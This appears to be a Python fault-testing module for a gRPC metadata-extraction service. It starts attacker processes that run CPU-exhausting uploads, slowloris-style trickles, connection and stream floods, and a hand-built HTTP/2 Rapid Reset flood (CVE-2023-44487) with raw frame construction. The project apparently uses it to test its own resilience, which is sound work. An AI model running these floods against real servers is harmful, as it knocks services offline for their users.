"""Hostile callers, each a process: `python -m tests.faults.attackers KIND ADDRESS SOURCE`. They go on until they are killed."""

from __future__ import annotations

import asyncio
import os
import resource
import socket
import struct
import subprocess
import sys
import threading
import time

import grpc
from grpc import aio

from metaextract.extractor.v1 import extractor_pb2 as pb
from metaextract.extractor.v1 import extractor_pb2_grpc
from tests.faults.hostile import make
from tests.support.evidence import ROOT

_THREADS = 4
_TRICKLES = 64
_HALF_OPEN = 400
_IDLE = 1000
_STREAMS = 10_000
_STREAMS_PER_CONNECTION = 100
_MIB = 2**20
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RST_STREAM, _SETTINGS = 1, 3, 4
_PATH = "/metaextract.extractor.v1.ExtractorService/GetCapabilities"


class Attack:
    """One attacker's process."""

    def __init__(self, kind: str, address: str, source: str = "127.0.0.9") -> None:
        command = [sys.executable, "-m", "tests.faults.attackers", kind, address, source]
        self._process = subprocess.Popen(command, cwd=ROOT, stderr=subprocess.DEVNULL)

    def stop(self) -> None:
        """Ends it."""
        self._process.kill()
        self._process.wait()


def _stub(address: str) -> extractor_pb2_grpc.ExtractorServiceStub:
    options = [("grpc.use_local_subchannel_pool", 1), ("grpc.enable_retries", 0)]
    return extractor_pb2_grpc.ExtractorServiceStub(grpc.insecure_channel(address, options=options))


def _in_threads(work, count: int) -> None:
    threads = [threading.Thread(target=work, args=(number,), daemon=True) for number in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def costly(address: str, source: str) -> None:
    """Files of 48 bytes that take 6 s of CPU, as many as are let in, without minding any delay."""

    def work(number: int) -> None:
        stub = _stub(address)
        while True:
            inline = pb.InlineSource(data=make("burn"), name="a.hostile")
            try:
                stub.Extract(pb.ExtractRequest(inline=inline), timeout=30)
            except grpc.RpcError:
                time.sleep(0.05)

    _in_threads(work, _THREADS)


def greedy(address: str, source: str) -> None:
    """Large uploads and large messages, one after the other, without minding any delay."""
    block = os.urandom(_MIB)

    def parts():
        yield pb.ExtractUploadRequest(header=pb.UploadHeader(name="a.bin", size_bytes=64 * _MIB))
        for _ in range(64):
            yield pb.ExtractUploadRequest(data=block)

    def work(number: int) -> None:
        stub = _stub(address)
        while True:
            try:
                if number % 2:
                    stub.ExtractUpload(parts(), timeout=60)
                else:
                    data = b"HOSTILE!" + os.urandom(3 * _MIB)
                    stub.Extract(pb.ExtractRequest(inline=pb.InlineSource(data=data)), timeout=30)
            except grpc.RpcError:
                time.sleep(0.05)

    _in_threads(work, _THREADS)


def trickle(address: str, source: str) -> None:
    """64 uploads of which a byte comes every 2 s; what is ended begins anew."""

    def slowly():
        yield pb.ExtractUploadRequest(header=pb.UploadHeader(name="a.fits"))
        while True:
            yield pb.ExtractUploadRequest(data=b"x")
            time.sleep(2)

    def work(number: int) -> None:
        stub = _stub(address)
        while True:
            try:
                stub.ExtractUpload(slowly(), timeout=600)
            except grpc.RpcError:
                time.sleep(0.2)

    _in_threads(work, _TRICKLES)


def half_open(address: str, source: str) -> None:
    """400 connections that never say a word, opened again when they are closed."""
    _hold(address, source, _HALF_OPEN, b"")


def idle(address: str, source: str) -> None:
    """1,000 connections that speak HTTP/2 and want nothing."""
    _hold(address, source, _IDLE, _PREFACE + _frame(_SETTINGS, 0, 0, b""))


def resets(address: str, source: str) -> None:
    """Calls that are begun and reset at once, thousands a second (CVE-2023-44487)."""
    block = _header_block(address)
    while True:
        try:
            with _connect(address, source) as connection:
                connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
                stream = 1
                while stream < 1 << 20:
                    burst = b"".join(
                        _frame(_HEADERS, 0x4, each, block)
                        + _frame(_RST_STREAM, 0, each, struct.pack(">I", 8))
                        for each in range(stream, stream + 200, 2)
                    )
                    connection.sendall(burst)
                    stream += 200
        except OSError:
            time.sleep(0.05)


def streams(address: str, source: str) -> None:
    """10,000 sessions without a word."""
    asyncio.run(_open_streams(address))


async def _open_streams(address: str) -> None:
    channels = []
    for number in range(_STREAMS // _STREAMS_PER_CONNECTION):
        options = [("grpc.use_local_subchannel_pool", 1), ("metaextract.number", number)]
        channels.append(aio.insecure_channel(address, options=options))
    stubs = [extractor_pb2_grpc.ExtractorServiceStub(channel) for channel in channels]

    async def hold(stub) -> None:
        while True:
            call = stub.ExtractSession()
            try:
                await call.read()
            except (aio.AioRpcError, asyncio.CancelledError):
                await asyncio.sleep(0.5)

    await asyncio.gather(*(hold(stub) for stub in stubs for _ in range(_STREAMS_PER_CONNECTION)))


def _connect(address: str, source: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=5, source_address=(source, 0))


def _hold(address: str, source: str, count: int, greeting: bytes) -> None:
    held: list[socket.socket] = []
    while True:
        for each in list(held):
            each.setblocking(False)
            try:
                if each.recv(65536) == b"":
                    raise ConnectionResetError
            except BlockingIOError:
                continue
            except OSError:
                held.remove(each)
                each.close()
        while len(held) < count:
            try:
                each = _connect(address, source)
                each.sendall(greeting)
            except OSError:
                break
            held.append(each)
        time.sleep(0.2)


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """RFC 9113, section 4.1."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _header_block(address: str) -> bytes:
    """Headers of a call, as literals without a table (RFC 7541, section 6.2.2)."""
    block = b""
    for name, value in (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", _PATH),
        (":authority", address),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ):
        block += b"\0" + b"".join(bytes((len(text),)) + text.encode() for text in (name, value))
    return block


KINDS = {each.__name__: each for each in (costly, greedy, trickle, half_open, idle, resets, streams)}

if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    KINDS[sys.argv[1]](sys.argv[2], sys.argv[3])
